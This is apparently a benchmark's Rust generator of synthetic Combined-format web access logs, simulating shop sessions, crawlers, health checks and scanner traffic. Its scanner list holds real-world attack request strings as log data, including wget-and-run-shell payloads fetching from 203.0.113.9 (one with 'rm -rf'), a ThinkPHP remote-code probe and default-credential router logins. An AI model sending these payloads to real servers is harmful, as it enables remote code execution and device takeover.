//! Writes a seeded Combined log of about SIZE_MB megabytes to stdout, with
//! the variety that makes deriving hard: many distinct paths.
//!
//! usage: gen_realistic SIZE_MB [SEED] [realistic|slugs|short-slugs|long-queries]
//!
//! `realistic` (the default) is one day of an internet-facing shop and blog:
//! - visitors in sessions (many log in first, then browse, add to a cart and
//!   order), with think times, some sessions hundreds of requests long;
//! - blog posts by slug (`/blog/2025/11/how-to-…`, 200,000 of them, a few
//!   popular), products by slug (`/p/{8 letters}/{10 letters}`, a million),
//!   CDN images by hash, user and order ids, searches with free text;
//! - crawlers walking the slugs, a health check every few seconds, and
//!   scanners probing `.env`, `wp-login.php` and shell payloads in the query;
//! - a day's rise and fall in rate.
//!
//! `slugs` is the worst case for cardinality: every request a distinct
//! `/{8 letters}/{10 letters}` path, one client, one agent.
//! `short-slugs` is the same paths in short lines (about 107 bytes: no
//! referer, a short agent) from 65,536 clients: the most lines, templates
//! and users per megabyte.
//! `long-queries` is the worst case for samples: the slug paths, each with a
//! query of eight keys whose values are 800 letters (lines of about 6.7 KB,
//! as a scanner or a tracking pixel writes): every template holds kilobytes
//! of sampled values until the table folds.
//!
//! The same SIZE_MB, SEED and mode give the same bytes. Compiled by
//! bench/derive.sh with `rustc -O` (no dependencies).

use std::io::{self, BufWriter, Write};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // splitmix64
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    /// An index in 0..n where low indices are much more likely (a few popular items, a long tail).
    fn skewed(&mut self, n: u64) -> u64 {
        let u = self.unit();
        ((n as f64) * u * u * u * u) as u64
    }
    fn letters(&mut self, out: &mut String, n: usize) {
        for _ in 0..n {
            out.push((b'a' + self.below(26) as u8) as char);
        }
    }
    fn hex(&mut self, out: &mut String, n: usize) {
        for _ in 0..n {
            out.push(b"0123456789abcdef"[self.below(16) as usize] as char);
        }
    }
}

/// Letters drawn from `seed`, so item `i` of a pool has the same name every time.
fn name_of(seed: u64, i: u64, n: usize, out: &mut String) {
    Rng(seed ^ i.wrapping_mul(0xA24B_AED4_963E_E407)).letters(out, n);
}

const WORDS: &[&str] = &[
    "how", "to", "build", "rust", "fast", "guide", "best", "winter", "coat", "review", "cheap", "flights", "recipe", "bread", "garden",
    "tips", "home", "office", "chair", "desk", "lamp", "running", "shoes", "trail", "camera", "lens", "travel", "paris", "tokyo", "deal",
    "black", "friday", "gift", "ideas", "kids", "toys", "coffee", "grinder", "espresso", "why", "we", "moved", "to", "kubernetes", "and",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
];
const BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
];
const SCANS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F203.0.113.9%2Ft+-O-+%7C+sh%60)",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/HNAP1/",
    "/actuator/health",
    "/solr/admin/info/system?wt=json",
];
const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/// (year, month 1-12, day) of a day count since 1970-01-01 (Howard Hinnant's civil_from_days).
fn civil(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}

struct Visitor {
    client: String,
    agent: &'static str,
    steps_left: u32,
    logged_in: bool,
    browsed: bool,
}

struct Gen {
    rng: Rng,
    seed: u64,
    visitors: Vec<Visitor>,
    path: String,
}

impl Gen {
    fn client(&mut self) -> String {
        let r = &mut self.rng;
        if r.chance(0.1) {
            format!("2001:db8:{:x}::{:x}", r.below(65536), 1 + r.below(65535))
        } else {
            format!("{}.{}.{}.{}", 1 + r.below(223), r.below(256), r.below(256), 1 + r.below(254))
        }
    }

    fn blog_post(&mut self) {
        let i = self.rng.skewed(200_000);
        let mut slug_rng = Rng(self.seed ^ i.wrapping_mul(0x9E37_79B9));
        let month = 1 + slug_rng.below(12);
        self.path.push_str(&format!("/blog/{}/{month:02}/", 2019 + slug_rng.below(7)));
        for w in 0..3 + slug_rng.below(4) {
            if w > 0 {
                self.path.push('-');
            }
            self.path.push_str(*slug_rng.pick(WORDS));
        }
        self.path.push_str(&format!("-{i}"));
    }

    fn product(&mut self) {
        let i = self.rng.skewed(1_000_000);
        self.path.push_str("/p/");
        name_of(self.seed, i, 8, &mut self.path);
        self.path.push('/');
        name_of(self.seed ^ 1, i, 10, &mut self.path);
    }

    /// One browsing request of a visitor; returns (method, status).
    fn browse(&mut self, logged_in: bool) -> (&'static str, u16) {
        let r = self.rng.unit();
        if r < 0.22 {
            self.product();
            return ("GET", self.status());
        }
        if r < 0.40 {
            self.blog_post();
            return ("GET", self.status());
        }
        let p = &mut self.path;
        if r < 0.55 {
            p.push_str("/cdn/img/");
            self.rng.hex(p, 32);
            p.push_str(if self.rng.chance(0.7) { ".jpg" } else { ".webp" });
        } else if r < 0.68 {
            p.push_str(*self.rng.pick(&["/", "/static/js/app.3f9c2a1b.js", "/static/css/site.8d0e1f2a.css", "/favicon.ico"]));
        } else if r < 0.74 {
            let q = self.rng.pick(WORDS);
            let q2 = self.rng.pick(WORDS);
            p.push_str(&format!("/search?q={q}+{q2}&page={}", 1 + self.rng.below(5)));
        } else if r < 0.80 {
            p.push_str(&format!("/users/{}", 1 + self.rng.below(2_000_000)));
        } else if r < 0.86 && logged_in {
            p.push_str("/api/v1/cart");
            return ("POST", 201);
        } else if r < 0.90 && logged_in {
            p.push_str("/api/v1/orders/");
            self.rng.hex(p, 8);
            p.push('-');
            self.rng.hex(p, 4);
            p.push_str("-4");
            self.rng.hex(p, 3);
            p.push_str("-a");
            self.rng.hex(p, 3);
            p.push('-');
            self.rng.hex(p, 12);
            p.push_str("/items");
        } else if r < 0.93 {
            p.push_str(&format!("/category/{}?utm_source=newsletter&utm_campaign=w{}", self.rng.pick(WORDS), self.rng.below(52)));
        } else {
            p.push_str("/account");
            return ("GET", if logged_in { 200 } else { 302 });
        }
        ("GET", self.status())
    }

    fn status(&mut self) -> u16 {
        if self.rng.chance(0.01) {
            500
        } else if self.rng.chance(0.04) {
            404
        } else if self.path.starts_with("/static") && self.rng.chance(0.5) {
            304
        } else {
            200
        }
    }
}

fn main() -> io::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    let size: u64 = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(1000) * 1_000_000;
    let seed: u64 = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(7);
    let short = args.get(3).is_some_and(|m| m == "short-slugs");
    let long_queries = args.get(3).is_some_and(|m| m == "long-queries");
    let slugs = short || long_queries || args.get(3).is_some_and(|m| m == "slugs");
    let mut g = Gen { rng: Rng(seed), seed, visitors: Vec::new(), path: String::with_capacity(256) };
    let start: i64 = 1_764_288_000; // 2025-11-28T00:00:00Z
    // About 210 bytes a line (107 short): spread the lines over one day.
    let lines = (size / if short { 107 } else if long_queries { 6_700 } else { 210 }).max(1) as f64;
    let mean_gap = 86_400.0 / lines;
    let mut out = BufWriter::with_capacity(1 << 20, io::stdout().lock());
    let (mut written, mut t) = (0u64, 0.0f64);
    let mut next_health = 0.0f64;
    let mut line = String::with_capacity(512);
    while written < size {
        g.path.clear();
        line.clear();
        let (client, agent, method, status): (String, &str, &str, u16);
        if slugs {
            t += mean_gap;
            g.path.push('/');
            g.rng.letters(&mut g.path, 8);
            g.path.push('/');
            g.rng.letters(&mut g.path, 10);
            if long_queries {
                for key in 0..8 {
                    g.path.push_str(if key == 0 { "?" } else { "&" });
                    g.path.push_str(&format!("k{key}="));
                    g.rng.letters(&mut g.path, 800);
                }
            }
            (client, agent, method, status) = if short {
                (format!("10.1.{}.{}", g.rng.below(256), g.rng.below(256)), "curl/8.5", "GET", 200)
            } else {
                ("198.51.100.7".to_owned(), AGENTS[0], "GET", 200)
            };
        } else {
            // A day's rise and fall: quiet at 04:00, busy at 16:00.
            let phase = (t / 86_400.0 - 1.0 / 6.0) * std::f64::consts::TAU;
            let factor = 1.0 - 0.7 * phase.cos();
            t += -(1.0 - g.rng.unit()).ln() * mean_gap / factor.max(0.1);
            if t >= next_health {
                next_health = t + 5.0;
                g.path.push_str("/healthz");
                (client, agent, method, status) = ("10.0.0.2".to_owned(), "kube-probe/1.29", "GET", 200);
            } else if g.rng.chance(0.03) {
                g.path.push_str(*g.rng.pick(SCANS));
                if g.rng.chance(0.3) {
                    g.path.push_str(&format!("{}{}.php", if g.path.ends_with('/') { "" } else { "/" }, g.rng.pick(WORDS)));
                }
                let c = format!("203.0.113.{}", 1 + g.rng.below(254));
                (client, agent, method, status) = (c, "Mozilla/5.0 zgrab/0.x", if g.rng.chance(0.2) { "POST" } else { "GET" }, 404);
            } else if g.rng.chance(0.12) {
                if g.rng.chance(0.5) {
                    g.blog_post();
                } else {
                    g.product();
                }
                let bot = *g.rng.pick(BOTS);
                let c = format!("66.249.{}.{}", 64 + g.rng.below(32), 1 + g.rng.below(254));
                (client, agent, method, status) = (c, bot, "GET", 200);
            } else {
                if g.visitors.len() < 3000 || g.rng.chance(0.02) {
                    let v = Visitor {
                        client: g.client(),
                        agent: *g.rng.pick(AGENTS),
                        steps_left: 1 + (-(1.0 - g.rng.unit()).ln() * 9.0) as u32 + if g.rng.chance(0.01) { 300 } else { 0 },
                        logged_in: false,
                        browsed: false,
                    };
                    if g.visitors.len() < 3000 {
                        g.visitors.push(v);
                    } else {
                        let at = g.rng.below(g.visitors.len() as u64) as usize;
                        g.visitors[at] = v;
                    }
                }
                let at = g.rng.below(g.visitors.len() as u64) as usize;
                let v = &g.visitors[at];
                let (opening, logged_in) = (!v.logged_in && !v.browsed, v.logged_in);
                let (m, s) = if opening && g.rng.chance(0.45) {
                    g.visitors[at].logged_in = true;
                    g.path.push_str("/login");
                    ("POST", 302)
                } else {
                    g.visitors[at].browsed = true;
                    g.browse(logged_in)
                };
                let v = &mut g.visitors[at];
                v.steps_left = v.steps_left.saturating_sub(1);
                (client, agent, method, status) = (v.client.clone(), v.agent, m, s);
                if v.steps_left == 0 {
                    g.visitors.swap_remove(at);
                }
            }
        }
        write_line(&mut line, &client, agent, method, &g.path, status, start, t, &mut g.rng, short);
        out.write_all(line.as_bytes())?;
        written += line.len() as u64;
    }
    out.flush()
}

#[allow(clippy::too_many_arguments)]
fn write_line(line: &mut String, client: &str, agent: &str, method: &str, path: &str, status: u16, start: i64, t: f64, rng: &mut Rng, short: bool) {
    use std::fmt::Write as _;
    let stamp = start + t as i64;
    let (y, m, d) = civil(stamp.div_euclid(86_400));
    let sec = stamp.rem_euclid(86_400);
    let bytes = if status == 304 { 0 } else { 200 + rng.below(60_000) };
    let referer = if short || rng.chance(0.6) { "-" } else { "https://shop.example.com/" };
    let _ = writeln!(
        line,
        "{client} - - [{d:02}/{}/{y}:{:02}:{:02}:{:02} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\"",
        MONTHS[(m - 1) as usize],
        sec / 3600,
        sec / 60 % 60,
        sec % 60
    );
}
